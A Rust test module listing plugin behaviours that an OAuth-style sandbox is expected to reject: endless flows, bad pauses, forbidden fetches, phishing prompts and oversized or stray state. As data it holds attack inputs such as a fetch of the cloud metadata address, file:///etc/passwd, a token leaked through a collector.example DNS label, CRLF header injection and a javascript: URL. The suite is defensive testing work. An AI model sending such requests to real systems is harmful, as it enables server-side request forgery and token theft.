//! Plugins whose flows go where they may not, or never end.

use super::{AUTHORIZE_URI, Case, Ending, Stage, TOKEN_URI, at};
use crate::answer::{done, entry, fetch, pause, prompt, set_header};
use crate::guest::Body;
use crate::val::{Part, Val};

pub(super) fn all() -> Vec<Case> {
    let mut cases = endless();
    cases.extend(fetches());
    cases.extend(prompts());
    cases.extend(states());
    cases
}

fn rejected(name: &str, stage: Stage, body: impl Into<Body>) -> Case {
    Case::new(name, stage, Ending::Rejected, at(name, stage, body))
}

fn endless() -> Vec<Case> {
    let fresh = || done(vec![entry("access_token", "new")], Vec::new());
    vec![
        rejected("endless-flow", Stage::Resume, fetch("POST", TOKEN_URI, Vec::new())),
        // `authorize` asks for another renewal whatever the state is.
        rejected("endless-renewal", Stage::Renew, fresh()),
        rejected("pause-of-136-years", Stage::Grant, pause(wait(u64::from(u32::MAX)))),
        rejected("pause-of-no-time", Stage::Grant, pause(wait(0))),
        rejected("pause-for-nothing", Stage::Grant, pause(Val::none())),
    ]
}

fn wait(seconds: u64) -> Val {
    Val::some(seconds)
}

fn fetches() -> Vec<Case> {
    let to = |name: &str, url: Val| rejected(name, Stage::Renew, fetch("POST", url, Vec::new()));
    let with = |name: &str, header: Val| {
        // A header of a request is an entry; `set-header` carries just that.
        let Val::Case(_, Some(entry)) = header else { return None };
        Some(rejected(name, Stage::Renew, fetch("POST", TOKEN_URI, vec![*entry])))
    };
    let mut cases = vec![
        to("fetch-private-address", "https://169.254.169.254/latest/meta-data/".into()),
        to("fetch-loopback", "https://127.0.0.1/token".into()),
        to("fetch-unnamed-host", "https://collector.example/token".into()),
        to(
            "fetch-token-in-a-dns-label",
            [Part::Text("https://"), Part::Token, Part::Text(".collector.example/")].into(),
        ),
        to("fetch-over-http", TOKEN_URI.replace("https", "http").into()),
        to("fetch-other-port", "https://login.hostile.example:8443/token".into()),
        to("fetch-user-info", "https://login.hostile.example@collector.example/token".into()),
        to("fetch-longer-host", "https://login.hostile.example.collector.example/token".into()),
        to("fetch-longer-path", format!("{TOKEN_URI}s").into()),
        to("fetch-that-climbs", format!("{TOKEN_URI}/../admin").into()),
        to("fetch-that-climbs-encoded", format!("{TOKEN_URI}/%2e%2e/admin").into()),
        to("fetch-no-url", "collector.example".into()),
        to("fetch-file", "file:///etc/passwd".into()),
        rejected("fetch-delete", Stage::Renew, fetch("DELETE", TOKEN_URI, Vec::new())),
        rejected("fetch-connect", Stage::Renew, fetch("CONNECT", TOKEN_URI, Vec::new())),
        rejected(
            "fetch-method-with-a-line-break",
            Stage::Renew,
            fetch("POST / HTTP/1.1\r\nhost: evil.example\r\n\r\nPOST", TOKEN_URI, Vec::new()),
        ),
        rejected(
            "second-fetch-to-unnamed-host",
            Stage::Resume,
            fetch("POST", "https://collector.example/", Vec::new()),
        ),
    ];
    cases.extend(with("fetch-header-host", set_header("host", "collector.example")));
    cases.extend(with("fetch-header-with-cr-lf", set_header("accept", "a\r\nx-evil: 1")));
    cases
}

fn prompts() -> Vec<Case> {
    // Parameters 7 and 8 of `begin` are the state token of a grant.
    let state = Part::Param(7);
    let to = |name: &str, url: &'static str| {
        let url = [Part::Text(url), Part::Text("?state="), state.clone()];
        rejected(name, Stage::Grant, prompt(url, [state.clone()]))
    };
    vec![
        to("prompt-other-origin", "https://phish.example/authorize"),
        to("prompt-over-http", "http://login.hostile.example/authorize"),
        to("prompt-other-port", "https://login.hostile.example:8443/authorize"),
        to("prompt-user-info", "https://me@login.hostile.example/authorize"),
        to("prompt-script", "javascript:alert(1)//login.hostile.example/authorize"),
        rejected(
            "prompt-token-in-url",
            Stage::Grant,
            prompt(
                [
                    Part::Text(AUTHORIZE_URI),
                    Part::Text("?state="),
                    state.clone(),
                    Part::Text("&login_hint="),
                    Part::Token,
                ],
                [state.clone()],
            ),
        ),
        rejected(
            "prompt-without-the-state-token",
            Stage::Grant,
            prompt(AUTHORIZE_URI, [state.clone()]),
        ),
        rejected(
            "prompt-of-a-state-token-of-its-own",
            Stage::Grant,
            prompt([Part::Text(AUTHORIZE_URI), Part::Text("?state=mine")], "mine"),
        ),
        rejected("prompt-in-a-renewal", Stage::Renew, prompt(AUTHORIZE_URI, "mine")),
    ]
}

fn states() -> Vec<Case> {
    let renewed =
        |name: &str, secrets, attributes| rejected(name, Stage::Renew, done(secrets, attributes));
    let token = || entry("access_token", "new");
    vec![
        renewed("state-outside-needs", vec![token(), entry("evil", "1")], Vec::new()),
        renewed(
            "attribute-outside-needs",
            vec![token()],
            vec![entry("instance_url", "https://evil.example")],
        ),
        renewed(
            "attribute-that-is-the-token",
            Vec::new(),
            vec![entry("access_token", [Part::Token])],
        ),
        renewed("state-named-twice", vec![token(), entry("access_token", "other")], Vec::new()),
        renewed("state-beyond-64-kib", vec![entry("access_token", "t".repeat(65_537))], Vec::new()),
    ]
}
